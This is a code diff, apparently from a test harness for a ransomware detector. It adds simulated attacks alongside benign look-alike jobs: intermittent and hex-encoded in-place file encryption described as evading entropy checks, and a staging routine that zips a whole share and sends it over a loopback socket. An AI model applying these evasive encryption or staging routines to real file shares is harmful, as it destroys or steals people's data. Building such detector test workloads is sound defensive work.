@@ -347,6 +347,125 @@ def sqlite_churn(root: Path, rate_per_s: float = 200, seed: int = 1, rows: int =
     return rows
 
 
+# --------------------------------------------------------------------------
+# Evasive attacks, exfiltration staging, and the benign jobs they resemble
+
+
+def encrypt_pattern(root: Path, rate_per_s: float = 200, seed: int = 1) -> int:
+    """Intermittent: encrypt 64 of every 192 bytes of each file, in place."""
+    n = 0
+    for p in paced(_victims(root), rate_per_s):
+        data = bytearray(p.read_bytes())
+        key = _keystream(seed + n, len(data))
+        for off in range(0, len(data), 192):
+            for j in range(off, min(off + 64, len(data))):
+                data[j] ^= key[j]
+        p.write_bytes(bytes(data))
+        n += 1
+    return n
+
+
+def encrypt_hex(root: Path, rate_per_s: float = 200, seed: int = 1) -> int:
+    """Encrypt, then write the ciphertext as hex text in place (defeats byte entropy)."""
+    n = 0
+    for p in paced(_victims(root), rate_per_s):
+        p.write_bytes(_xor(p.read_bytes(), seed + n).hex().encode())
+        n += 1
+    return n
+
+
+ARCHIVE_NAME = "export.zip"
+
+
+def exfil_stage(root: Path, rate_per_s: float = 0, seed: int = 1, port: int = 0) -> int:
+    """Read every file of the share, pack them into one zip on the share, send it out.
+
+    "Out" is 127.0.0.1:``port`` when given (a listener the caller owns), else a
+    throwaway loopback listener of this process: bytes leave through the network
+    stack and never leave the machine.
+    """
+    import socket
+
+    out = root / "Temp"
+    out.mkdir(exist_ok=True)
+    archive = out / ARCHIVE_NAME
+    n = 0
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
+        for p in paced([p for p in _victims(root) if out not in p.parents], rate_per_s):
+            z.writestr(str(p.relative_to(root)), p.read_bytes())
+            n += 1
+    srv = None
+    if not port:
+        srv = socket.create_server(("127.0.0.1", 0))
+        port = srv.getsockname()[1]
+    with socket.create_connection(("127.0.0.1", port)) as c:
+        conn = srv.accept()[0] if srv else None
+        data = archive.read_bytes()
+        sent = 0
+        while sent < len(data):
+            sent += c.send(data[sent : sent + 65536])
+            if conn is not None:
+                conn.recv(1 << 20)
+        if conn is not None:
+            conn.close()
+    if srv is not None:
+        srv.close()
+    return n
+
+
+def sed_inplace(root: Path, rate_per_s: float = 0, seed: int = 1) -> int:
+    """``sed -i`` over every text and csv file (temp file renamed over the original)."""
+    import subprocess
+
+    victims = [str(p) for p in _victims(root) if p.suffix in (".txt", ".csv")]
+    for i in range(0, len(victims), 50):
+        subprocess.run(["sed", "-i", "s/conseil/Conseil/g", *victims[i : i + 50]], check=True)
+    return len(victims)
+
+
+def convert_images(root: Path, rate_per_s: float = 200, seed: int = 1) -> int:
+    """Convert every PNG to a JPEG beside it and remove the PNG (same stem, typed output)."""
+    rng = random.Random(seed)
+    victims = [p for p in _victims(root) if p.suffix == ".png"]
+    for p in paced(victims, rate_per_s):
+        p.with_suffix(".jpg").write_bytes(_jpeg(rng, max(p.stat().st_size // 2, 1000)))
+        p.unlink()
+    return len(victims)
+
+
+def zip_folders(root: Path, rate_per_s: float = 0, seed: int = 1) -> int:
+    """Compress each year folder into ``YEAR.zip`` beside it and remove the folder's files."""
+    n = 0
+    years = sorted({p.parent for p in _victims(root) if p.parent.name.isdigit()})
+    for d in paced(years, rate_per_s):
+        files = [p for p in d.iterdir() if p.is_file()]
+        with zipfile.ZipFile(d.with_name(d.name + ".zip"), "w", zipfile.ZIP_DEFLATED) as z:
+            for p in files:
+                z.write(p, arcname=p.name)
+        for p in files:
+            p.unlink()
+        n += len(files)
+    return n
+
+
+def encrypted_backup(root: Path, rate_per_s: float = 200, seed: int = 1) -> int:
+    """Encrypted copies ``Sauvegardes/chiffrees/<tree>/<name>.gpg`` plus one manifest per
+    folder; deletes and modifies nothing."""
+    dest = root / "Sauvegardes" / "chiffrees"
+    victims = [p for p in _victims(root) if (root / "Sauvegardes") not in p.parents]
+    n = 0
+    manifested: set[Path] = set()
+    for p in paced(victims, rate_per_s):
+        out = dest / p.relative_to(root)
+        out.parent.mkdir(parents=True, exist_ok=True)
+        if out.parent not in manifested:
+            (out.parent / "MANIFEST.txt").write_text("sauvegarde chiffree du partage\n")
+            manifested.add(out.parent)
+        out.with_name(out.name + ".gpg").write_bytes(_xor(p.read_bytes(), seed + n))
+        n += 1
+    return n
+
+
 ATTACKS: dict[str, Callable[..., int]] = {
     "encrypt-inplace": encrypt_inplace,
     "encrypt-copy": encrypt_copy,
@@ -354,6 +473,8 @@ ATTACKS: dict[str, Callable[..., int]] = {
     "encrypt-stripes": encrypt_stripes,
     "encrypt-base64": encrypt_base64,
     "encrypt-workers": encrypt_workers,
+    "encrypt-pattern": encrypt_pattern,
+    "encrypt-hex": encrypt_hex,
 }
 BENIGN: dict[str, Callable[..., int]] = {
     "backup-targz": backup_targz,
@@ -362,8 +483,16 @@ BENIGN: dict[str, Callable[..., int]] = {
     "mass-delete": mass_delete,
     "gzip-logs": gzip_logs,
     "sqlite-churn": sqlite_churn,
+    "sed-inplace": sed_inplace,
+    "convert-images": convert_images,
+    "zip-folders": zip_folders,
+    "encrypted-backup": encrypted_backup,
 }
-WORKLOADS: dict[str, Callable[..., int]] = {**ATTACKS, **BENIGN}
+# Warning-level: data theft before encryption (no file is ruined).
+STAGING: dict[str, Callable[..., int]] = {
+    "exfil-stage": exfil_stage,
+}
+WORKLOADS: dict[str, Callable[..., int]] = {**ATTACKS, **BENIGN, **STAGING}
 
 
 # --------------------------------------------------------------------------
